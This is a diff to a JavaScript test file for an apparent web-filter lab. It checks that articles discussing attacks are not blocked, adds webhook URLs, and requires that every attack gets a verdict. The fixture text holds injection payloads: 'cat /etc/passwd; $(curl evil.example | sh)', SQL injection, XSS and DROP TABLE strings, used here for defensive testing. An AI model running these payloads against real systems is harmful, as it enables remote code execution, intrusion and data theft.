@@ -23,12 +23,13 @@ test('the lab is whole with it, and each host says what it does', async (t) => {
   t.regex(stdout, /^cdn-2 +nginx +http:\/\/127\.0\.0\.1:\d+ +answers, routed +1\./m);
 });
 
-test('articles about SQL, shells and HTML pass, and so do names with a dot and passwords of any kind', async (t) => {
+test('articles about SQL, shells and HTML pass, and names with a dot, passwords and addresses of any kind', async (t) => {
   const { place, author } = t.context;
   const article = {
     title: `Why ' OR 1=1 -- works ${marks}`,
     description: "<script>alert('x')</script> and UNION SELECT password FROM users",
-    body: 'cat /etc/passwd; $(curl evil.example | sh) {{7*7}} <img src=x onerror=alert(1)> DROP TABLE users;',
+    body: `cat /etc/passwd; $(curl evil.example | sh) {{7*7}} <img src=x onerror=alert(1)> DROP TABLE users;
+      A client sends GET /api/tags HTTP/1.1 and a String of Java is a java.lang.String.`,
     tagList: ["x' or '1'='1", '<svg/onload=alert(1)>'],
   };
   const made = await send(place, '/api/articles', { method: 'POST', token: author.token, json: { article } });
@@ -40,6 +41,14 @@ test('articles about SQL, shells and HTML pass, and so do names with a dot and p
   t.is((await send(place, `/api/profiles/edge.${marks}`)).status, 200);
   const user = { bio: "Robert'); DROP TABLE students;--", image: 'http://192.0.2.1/a.png' };
   t.is((await send(place, '/api/user', { method: 'PUT', token: author.token, json: { user } })).status, 200);
+  for (const url of [`http://192.0.2.1/${marks}`, `https://example.com/${marks}?`]) {
+    const added = await send(place, '/api/webhooks', {
+      method: 'POST',
+      token: author.token,
+      json: { webhook: { url } },
+    });
+    t.is(added.body.webhook?.url, url, added.text);
+  }
 });
 
 test('what attackers send is blocked, in the shape of the API’s errors and with the id of the request', async (t) => {
@@ -49,7 +58,11 @@ test('what attackers send is blocked, in the shape of the API’s errors and wit
   t.is(refused.body.errors.status_code, 403);
   t.is(refused.headers['x-request-id'], 'mine-1');
   const outcomes = await sendAttacks(attacks, { ...place, authority: place.ca });
-  const missed = outcomes.filter(({ blocked }) => !blocked);
+  t.deepEqual(
+    outcomes.filter(({ verdict }) => verdict === 'none'),
+    [],
+  );
+  const missed = outcomes.filter(({ verdict }) => verdict === 'missed');
   t.deepEqual(
     missed.filter(({ attack }) => explainMiss(attack) === undefined),
     [],
